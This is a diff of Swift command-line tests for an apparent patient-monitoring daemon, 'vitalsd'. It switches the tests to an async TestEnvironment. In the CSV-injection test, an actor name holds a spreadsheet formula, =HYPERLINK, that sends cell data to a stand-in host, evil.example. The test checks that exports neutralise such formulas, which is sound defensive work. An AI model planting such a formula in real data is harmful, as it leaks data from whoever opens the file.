@@ -34,7 +34,7 @@ struct CommandLineTests {
 
     @Test("reading list: newest first, times in the patient's zone, --since a local date, --type")
     func readingList() async throws {
-        let env = try TestEnvironment()  // p1 lives in America/Chicago (UTC−6 in November)
+        let env = try await TestEnvironment()  // p1 lives in America/Chicago (UTC−6 in November)
         let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
         for (value, at) in [(100, "2026-11-28T13:10:00Z"), (182, "2026-11-29T05:59:00Z"), (95, "2026-11-29T13:10:00Z")] {
             _ = try env.database.ingestBlocking([IncomingMessage(
@@ -62,7 +62,7 @@ struct CommandLineTests {
 
     @Test("task list: unresolved by default, --status, --limit, --since; 120 columns; no direction on late-data tasks")
     func taskList() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let long = "patient-with-a-very-long-identifier-0123456789"
         try env.database.upsertPatient(Patient(id: long, timezone: "UTC", programs: [.diabetes]), actor: "test")
         try env.database.upsertDevice(Device(id: "gl", kind: .glucometer, patientID: long), actor: "test")
@@ -105,7 +105,7 @@ struct CommandLineTests {
 
     @Test("JSON output uses snake_case keys in every command")
     func snakeCaseJSON() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         _ = try env.database.ingestBlocking(
             [IncomingMessage(topic: "devices/nobody/readings", deviceID: "nobody", payload: glucoseJSON(45, at: msAgo(60)), receivedAt: Date()),
              IncomingMessage(topic: "devices/g1/readings", deviceID: "g1", payload: glucoseJSON(45, at: msAgo(60)), receivedAt: Date())],
@@ -125,7 +125,7 @@ struct CommandLineTests {
 
     @Test("an error says what is wrong without the usage block; --help names VITALSD_CONFIG")
     func errorsAndHelp() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let missing = try await run(env, ["patient", "show", "nobody"])
         #expect(missing.code == 1)
         #expect(missing.output == "vitalsd: patient nobody is not enrolled\n", "\(missing.output)")
@@ -138,7 +138,7 @@ struct CommandLineTests {
 
     @Test("CSV exports neutralise formulas: an actor =HYPERLINK(...) is text in audit list --format csv")
     func csvInjection() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let actor = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
         #expect(try await run(env, ["patient", "add", "--id", "csv1", "--timezone", "UTC", "--program", "diabetes", "--by", actor]).code == 0)
         let audit = try await run(env, ["audit", "list", "--format", "csv"])
@@ -150,7 +150,7 @@ struct CommandLineTests {
 
     @Test("config check prints a threshold whose unit is ambiguous as a warning, and passes")
     func configWarning() async throws {
-        let env = try TestEnvironment(extraYAML: "thresholds:\n  defaults:\n    body_weight: {critical_high: 250}\n")
+        let env = try await TestEnvironment(extraYAML: "thresholds:\n  defaults:\n    body_weight: {critical_high: 250}\n")
         let r = try await run(env, ["config", "check"])
         #expect(r.code == 0)
         #expect(r.output.contains("warning: thresholds.defaults.body_weight.critical_high: 250 is read as 250 kg, but as [lb_av]"), "\(r.output)")
@@ -162,7 +162,7 @@ struct CommandLineTests {
         let cert = NSTemporaryDirectory() + "vitalsd-cert-\(UUID().uuidString).pem"
         try "-----BEGIN CERTIFICATE-----\nMA==\n-----END CERTIFICATE-----\n".write(toFile: cert, atomically: true, encoding: .utf8)
         defer { try? FileManager.default.removeItem(atPath: cert) }
-        let env = try TestEnvironment(extraYAML: """
+        let env = try await TestEnvironment(extraYAML: """
             web:
               enabled: true
               tls_cert_file: \(cert)
@@ -177,7 +177,7 @@ struct CommandLineTests {
 
     @Test("config check fails while alerts.escalation_backup_user names nobody or a disabled user, and passes once it is enabled")
     func escalationBackupUser() async throws {
-        let env = try TestEnvironment(extraYAML: "alerts:\n  escalation_backup_user: dr.backup\n")
+        let env = try await TestEnvironment(extraYAML: "alerts:\n  escalation_backup_user: dr.backup\n")
         let missing = try await run(env, ["config", "check"])
         #expect(missing.code == 2)
         #expect(missing.output.contains("alerts.escalation_backup_user: no workspace user has this name"), "\(missing.output)")
@@ -195,7 +195,7 @@ struct CommandLineTests {
         let ok = try await run(env, ["config", "check"])
         #expect(ok.code == 0, "\(ok.output)")
 
-        let role = try TestEnvironment(extraYAML: "alerts:\n  escalation_backup_role: clinician\n")
+        let role = try await TestEnvironment(extraYAML: "alerts:\n  escalation_backup_role: clinician\n")
         let noClinician = try await run(role, ["config", "check"])
         #expect(noClinician.code == 2)
         #expect(noClinician.output.contains("alerts.escalation_backup_role: no enabled workspace user has this role"), "\(noClinician.output)")
@@ -203,7 +203,7 @@ struct CommandLineTests {
 
     @Test("dead-letters replay stores the readings of a device enrolled later, once")
     func deadLetterReplay() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let ms = msAgo(3_600)
         _ = try env.database.ingestBlocking(
             [IncomingMessage(topic: "devices/late1/readings", deviceID: "late1", payload: glucoseJSON(120, at: ms), receivedAt: Date())],
@@ -231,7 +231,7 @@ struct CommandLineTests {
 
     @Test("task note adds a note without a status change; task show lists notes, latest and worst; patient show the suppressed breaches")
     func notesAndSuppression() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
         let at = msAgo(3_600)
         func glucose(_ value: Double, _ offset: Int64) -> IncomingMessage {
@@ -258,7 +258,7 @@ struct CommandLineTests {
 
     @Test("a patient limit that would cross the program's other limit is refused")
     func inconsistentThreshold() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         // Default glucose critical_low is 54: a warning_low of 50 would sit below it.
         let refused = try await run(env, ["threshold", "set", "--patient", "p1", "--type", "glucose", "--level", "warning",
                                           "--direction", "low", "--value", "50", "--by", "dr.x"])
@@ -274,7 +274,7 @@ struct CommandLineTests {
 
     @Test("a trend rule can be changed or switched off for one patient, never for a rule that does not apply")
     func ruleOverride() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         // p1 is in program diabetes: the heart-failure weight rules do not apply.
         let refused = try await run(env, ["threshold", "rule", "--patient", "p1", "--rule", "weight_gain_7d", "--off"])
         #expect(refused.code != 0)
@@ -292,7 +292,7 @@ struct CommandLineTests {
 
     @Test("users: the password comes from a file, never an argument; disable ends sessions and releases tasks")
     func users() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let file = env.directory + "/password"
         try "correct horse battery 9\nsecond line ignored\n".write(toFile: file, atomically: true, encoding: .utf8)
         let added = try await run(env, ["user", "add", "--username", "Ana", "--name", "Ana Ruiz, RN", "--role", "care_manager",
@@ -327,7 +327,7 @@ struct CommandLineTests {
 
     @Test("device status and device events list telemetry and sentinels, which are not readings")
     func deviceStatusAndEvents() async throws {
-        let env = try TestEnvironment()
+        let env = try await TestEnvironment()
         let payload = #"[{"metric":"blood_pressure","hwi_device_id":"g1","value_1":2047,"value_2":2047,"timestamp":"2026-01-05T10:00:00Z"},{"metric":"battery_percentage","hwi_device_id":"g1","value_1":"64","timestamp":"2026-01-05T10:00:00Z"}]"#
         let summary = try env.database.ingestBlocking(
             [IncomingMessage(topic: "vendors/tenovi", deviceID: nil, payload: Array(payload.utf8), receivedAt: Date(),
